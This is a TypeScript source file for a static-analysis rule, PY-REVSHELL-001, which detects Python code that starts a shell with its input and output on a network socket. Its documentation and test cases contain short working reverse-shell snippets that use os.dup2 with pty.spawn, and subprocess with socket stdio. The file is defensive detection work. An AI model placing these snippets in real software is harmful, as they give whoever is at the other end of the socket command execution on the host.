import type { SyntaxNode } from "../../parse/index.js";
import { namedChildren, sourceHas } from "../../parse/nodes.js";
import type { PythonContext } from "../../dataflow/python.js";
import { pyRule } from "./common.js";

/** An interactive shell by name or path: sh, bash, dash, zsh, ksh, ash, cmd.exe, powershell. */
const SHELL = /^(\/(usr\/)?(local\/)?bin\/)?(ba|da|z|k|a)?sh$|^(cmd(\.exe)?|powershell(\.exe)?|pwsh)$/i;
const SPAWNS =
  /^(pty\.spawn|os\.(system|popen|execv|execve|execvp|execl|execlp|spawnv|spawnl)|subprocess\.(call|run|Popen|check_call|check_output))$/;

/** The program a spawn call starts: its first argv word, or the command string's first word. */
function program(ctx: PythonContext, call: SyntaxNode): string {
  const first = ctx.resolve(ctx.args(call)[0]) ?? ctx.args(call)[0];
  if (!first) return "";
  const word =
    first.type === "list" || first.type === "tuple"
      ? ctx.stringValue(ctx.resolve(namedChildren(first)[0]))
      : ctx.stringValue(first)?.trim().split(/\s+/)[0];
  return word ?? "";
}

/** `stdin=s.fileno()` (or stdout / stderr): the child's stdio is a socket's descriptor. */
function stdioOnSocket(ctx: PythonContext, call: SyntaxNode): boolean {
  return ["stdin", "stdout", "stderr"].some((k) => {
    const v = ctx.kwarg(call, k);
    return !!v && v.type === "call" && ctx.method(v) === "fileno";
  });
}

/**
 * `os.dup2(s.fileno(), 0)` (or 1, 2) earlier in the same function: the process's own stdio now reads and writes
 * the socket, so a shell it starts is driven from the network.
 */
function stdioDupedToSocket(ctx: PythonContext, call: SyntaxNode): boolean {
  const fn = ctx.enclosingFunction(call) ?? ctx.tree.root;
  return /\bos\.dup2\(\s*[\w.]+\.fileno\(\)\s*,\s*[012]\s*\)/.test(ctx.text(fn));
}

export default pyRule({
  meta: {
    id: "PY-REVSHELL-001",
    title: "Shell whose input and output are a network socket (reverse or bind shell)",
    cwe: ["CWE-78", "CWE-506"],
    severity: "HIGH",
    docs: {
      what_it_does:
        "Flags an interactive shell (sh, bash, cmd, powershell) started by pty.spawn, os.exec*/system or subprocess when its stdin/stdout is a socket's descriptor, or after os.dup2 bound the process's stdio to a socket in the same function.",
      why_bad:
        "Whoever is at the other end of the socket types commands into a shell with the program's privileges: a reverse or bind shell, a backdoor.",
      example_bad:
        "import os, pty, socket\ndef f(h, p):\n    s = socket.create_connection((h, p))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    pty.spawn('/bin/sh')",
      example_good:
        "import subprocess\ndef f():\n    return subprocess.run(['uptime'], capture_output=True).stdout",
    },
    fix_hint:
      "Do not hand a shell to a network peer; expose the specific operations needed behind authentication instead.",
  },
  trigger: /dup2|fileno\(\)/,
  nodeTypes: ["call"],
  calls: [
    "spawn",
    "system",
    "popen",
    "execv",
    "execve",
    "execvp",
    "execl",
    "execlp",
    "spawnv",
    "spawnl",
  ].concat(["call", "run", "Popen", "check_call", "check_output"]),
  detect(node, ctx, report) {
    if (!sourceHas(ctx.tree, /\bsocket\b/)) return;
    const q = ctx.callee(node);
    if (!SPAWNS.test(q)) return;
    // os.exec*(path, argv) and os.spawn*(mode, path, ...): the program is the path argument.
    const prog = /^os\.spawn/.test(q)
      ? (ctx.stringValue(ctx.resolve(ctx.args(node)[1])) ?? "")
      : program(ctx, node);
    if (!SHELL.test(prog)) return;
    if (stdioOnSocket(ctx, node) || stdioDupedToSocket(ctx, node))
      report({ node, message: `${prog} started with its input and output on a network socket` });
  },
  cases: {
    valid: [
      "import subprocess, socket\ndef f(h):\n    s = socket.create_connection((h, 80))\n    subprocess.run(['/bin/sh', '-c', 'uptime'])",
      "import os, socket, subprocess\ndef f(path):\n    r, w = os.pipe()\n    os.dup2(w, 1)\n    subprocess.call(['/bin/sh', path])",
      "import socket, subprocess\ndef f(s):\n    subprocess.run(['gzip', '-c'], stdin=s.fileno())",
    ],
    invalid: [
      {
        code: "import os, pty, socket\ndef f(h, p):\n    s = socket.socket()\n    s.connect((h, p))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    pty.spawn('/bin/sh')",
        line: 7,
      },
      {
        code: "import socket, subprocess\ndef f(h, p):\n    s = socket.create_connection((h, p))\n    subprocess.call(['/bin/bash', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())",
        line: 4,
      },
    ],
  },
});
